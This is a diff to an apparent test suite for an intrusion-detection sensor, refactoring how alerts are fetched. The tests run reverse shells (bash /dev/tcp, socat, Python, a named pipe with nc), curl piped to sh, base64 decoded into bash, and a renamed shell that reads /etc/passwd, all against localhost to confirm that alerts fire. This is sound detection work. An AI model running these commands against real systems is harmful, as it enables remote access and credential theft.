@@ -5,7 +5,6 @@ import shutil
 import subprocess
 import sys
 import threading
-import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
@@ -14,8 +13,6 @@ from socket import create_server
 import pytest
 
 from tests.kernel.command import Running, running
-
-HIGH = 62
 
 
 @pytest.fixture(name="sensor")
@@ -76,26 +73,20 @@ def attack(command: list[str | Path], **options: object) -> int:
         return int(process.pid)
 
 
-def alerted(sensor: Running) -> dict[int, dict[str, object]]:
-    """Return the high alerts by the pid that they name, once the last of them is out."""
-    time.sleep(0.3)
-    return {alert["subject"]["pid"]: alert for alert in sensor.alerts(HIGH)}
-
-
 def test_a_bash_reverse_shell(sensor: Running, listener: int) -> None:
     """`bash -i >& /dev/tcp/…` alerts on the shell whose input and output are the connection."""
     pid = attack(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{listener} 0>&1"])
 
-    alert = alerted(sensor)[pid]
-    assert alert["subject"]["comm"] == "bash"  # type: ignore[index]
-    assert "T1059.004" in alert["techniques"]  # type: ignore[operator]
+    alert = sensor.alerted()[pid]
+    assert alert["subject"]["comm"] == "bash"
+    assert "T1059.004" in alert["techniques"]
 
 
 def test_socat_with_a_shell(sensor: Running, listener: int) -> None:
     """`socat … EXEC:/bin/sh` alerts on socat."""
     pid = attack(["socat", f"TCP:127.0.0.1:{listener}", "EXEC:/bin/sh"])
 
-    assert alerted(sensor)[pid]["subject"]["comm"] == "socat"  # type: ignore[index]
+    assert sensor.alerted()[pid]["subject"]["comm"] == "socat"
 
 
 def test_a_python_reverse_shell(sensor: Running, listener: int) -> None:
@@ -106,7 +97,7 @@ def test_a_python_reverse_shell(sensor: Running, listener: int) -> None:
     )
     pid = attack([sys.executable, "-c", code], env=os.environ | {"PORT": str(listener)})
 
-    assert alerted(sensor)[pid]["subject"]["comm"] == "sh"  # type: ignore[index]
+    assert sensor.alerted()[pid]["subject"]["comm"] == "sh"
 
 
 def test_a_shell_over_a_named_pipe(sensor: Running, listener: int, tmp_path: Path) -> None:
@@ -115,7 +106,7 @@ def test_a_shell_over_a_named_pipe(sensor: Running, listener: int, tmp_path: Pat
     os.mkfifo(fifo)
     attack(["sh", "-c", f"cat {fifo} | sh -i 2>&1 | nc -N 127.0.0.1 {listener} > {fifo}"])
 
-    assert "sh" in [alert["subject"]["comm"] for alert in alerted(sensor).values()]  # type: ignore[index]
+    assert "sh" in [alert["subject"]["comm"] for alert in sensor.alerted().values()]
 
 
 def test_an_execution_from_memory(sensor: Running) -> None:
@@ -126,15 +117,15 @@ def test_an_execution_from_memory(sensor: Running) -> None:
     )
     pid = attack([sys.executable, "-c", code])
 
-    assert "T1620" in alerted(sensor)[pid]["techniques"]  # type: ignore[operator]
+    assert "T1620" in sensor.alerted()[pid]["techniques"]
 
 
 def test_a_download_piped_to_a_shell(sensor: Running, web: int) -> None:
     """`curl … | sh` alerts on the shell that runs what is downloaded."""
     attack(["sh"], stdin=_script(f"curl -s http://127.0.0.1:{web}/install.sh | sh\n"))
 
-    (alert,) = alerted(sensor).values()
-    assert alert["subject"]["comm"] == "sh"  # type: ignore[index]
+    (alert,) = sensor.alerted().values()
+    assert alert["subject"]["comm"] == "sh"
     assert "curl" in str(alert["summary"])
 
 
@@ -142,8 +133,8 @@ def test_a_decoded_script_piped_to_a_shell(sensor: Running) -> None:
     """`base64 -d | bash` alerts on the shell that runs what is decoded."""
     attack(["sh"], stdin=_script("echo dHJ1ZQo= | base64 -d | bash\n"))
 
-    (alert,) = alerted(sensor).values()
-    assert alert["subject"]["comm"] == "bash"  # type: ignore[index]
+    (alert,) = sensor.alerted().values()
+    assert alert["subject"]["comm"] == "bash"
 
 
 def test_a_shell_in_the_guise_of_a_web_server(sensor: Running, tmp_path: Path) -> None:
@@ -151,7 +142,7 @@ def test_a_shell_in_the_guise_of_a_web_server(sensor: Running, tmp_path: Path) -
     image = shutil.copy("/bin/sh", tmp_path / "nginx")
     pid = attack([image, "-c", "id; whoami; uname -a; cat /etc/passwd; true"])
 
-    assert alerted(sensor)[pid]["subject"]["comm"] == "nginx"  # type: ignore[index]
+    assert sensor.alerted()[pid]["subject"]["comm"] == "nginx"
 
 
 def _script(text: str) -> int:
